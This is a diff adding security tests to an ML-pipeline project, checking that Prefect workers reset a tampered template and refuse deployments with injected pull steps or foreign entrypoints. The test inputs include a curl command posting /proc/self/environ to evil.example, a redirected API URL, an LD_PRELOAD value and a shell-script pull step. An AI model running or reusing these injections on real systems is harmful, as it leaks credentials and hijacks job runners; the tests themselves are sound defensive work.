@@ -6,6 +6,7 @@ import asyncio
 import subprocess
 import sys
 import uuid
+from types import SimpleNamespace
 
 import pytest
 
@@ -61,8 +62,21 @@ def test_a_runs_container_is_the_workers_image_network_and_datasets_with_passed_
     assert env["MLFLOW_TRACKING_PASSWORD"] == "value-of-mlflow_tracking_password"
     assert not {"MLFLOW_ADMIN_PASSWORD", "POSTGRES_PASSWORD", "DOCKER_HOST", "HOME"} & set(env)
     assert "PYTHONSTARTUP" not in env
-    assert set(env) <= {*PASSED, *(k for k in env if k.startswith("PREFECT"))}
+    assert set(env) <= {*PASSED, *(k for k in env if k.startswith("PREFECT__"))}
     assert config.command == "prefect flow-run execute"
+    assert env["PREFECT__FLOW_ENTRYPOINT"] == "flows/retrain.py:retrain"  # no pull step runs
+
+
+def test_what_an_edited_template_sets_is_the_workers_again():
+    """Any API user may edit the pool's template (not only a run's variables): its command
+    and its Prefect settings give way to the worker's."""
+    config = prepared({})
+    config.command = "sh -c 'curl -d @/proc/self/environ evil.example'"
+    config.env = {**config.env, "PREFECT_API_URL": "http://evil.example/api", "LD_PRELOAD": "x"}
+    CONTAINER.apply(config, {"PREFECT_API_URL": "http://prefect:4200/api"})
+    assert config.command == "prefect flow-run execute"
+    assert config.env["PREFECT_API_URL"] == "http://prefect:4200/api"
+    assert "LD_PRELOAD" not in config.env
 
 
 def test_an_unset_credential_is_not_passed_as_empty():
@@ -119,3 +133,60 @@ def test_the_workers_flags_are_checked_in_one_line(args, said):
     )  # fmt: skip
     assert found.returncode != 0
     assert said in found.stderr, found.stderr[-500:]
+
+
+@pytest.mark.integration
+def test_workers_run_only_the_projects_deployments_as_deployed(prefect_server, monkeypatch):
+    """A Prefect API user can edit a deployment's pull steps (code the flow-run process runs
+    with the worker's credentials) or entrypoint: both workers refuse such a run."""
+    from prefect import get_client
+    from prefect.client.schemas.objects import FlowRun
+    from prefect.settings import PREFECT_API_URL, temporary_settings
+
+    from cifar10_mlops.ops.pool import ENTRYPOINT, TRIAL_ENTRYPOINT, pull_step
+    from flows.worker import PinnedDockerWorker, PinnedProcessWorker, checked_run
+
+    evil = [{"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/pwned"}}]
+
+    async def check(worker, entrypoints, steps, deployed):
+        async with get_client() as client:
+            flow_id = await client.create_flow_from_name("retrain")
+            found = {}
+            for name, (entrypoint, pulls) in deployed.items():
+                deployment = await client.create_deployment(
+                    flow_id=flow_id, name=name, entrypoint=entrypoint, pull_steps=pulls
+                )
+                run = FlowRun(flow_id=flow_id, deployment_id=deployment)
+                # what checked_run uses of a started worker: its client and its reason
+                started = SimpleNamespace(client=client, pinned_why=worker.pinned_why)
+                try:
+                    await checked_run(started, run, lambda _: False, entrypoints, steps)
+                    found[name] = "runs"
+                except PipelineError as exc:
+                    found[name] = str(exc)
+            return found
+
+    monkeypatch.setenv("PREFECT_API_URL", prefect_server["PREFECT_API_URL"])
+    with temporary_settings({PREFECT_API_URL: prefect_server["PREFECT_API_URL"]}):
+        process = asyncio.run(check(
+            PinnedProcessWorker, (ENTRYPOINT, TRIAL_ENTRYPOINT),
+            [pull_step()], {
+                "as-deployed": (ENTRYPOINT, [pull_step()]),
+                "trials": (TRIAL_ENTRYPOINT, [pull_step()]),
+                "shell-step": (ENTRYPOINT, [pull_step(), *evil]),
+                "other-flow": ("evil.py:steal", [pull_step()]),
+            },
+        ))  # fmt: skip
+        docker = asyncio.run(check(
+            PinnedDockerWorker, (ENTRYPOINT,), [], {
+                "docker-as-deployed": (ENTRYPOINT, []),
+                "docker-shell-step": (ENTRYPOINT, evil),
+                "docker-trials": (TRIAL_ENTRYPOINT, []),
+            },
+        ))  # fmt: skip
+    assert process["as-deployed"] == process["trials"] == docker["docker-as-deployed"] == "runs"
+    for name in ("shell-step", "other-flow"):
+        assert "this worker runs only flows/retrain.py:retrain" in process[name], process[name]
+    for name in ("docker-shell-step", "docker-trials"):
+        assert docker[name].startswith(f"deployment {name!r} runs "), docker[name]
+        assert "\n" not in docker[name]
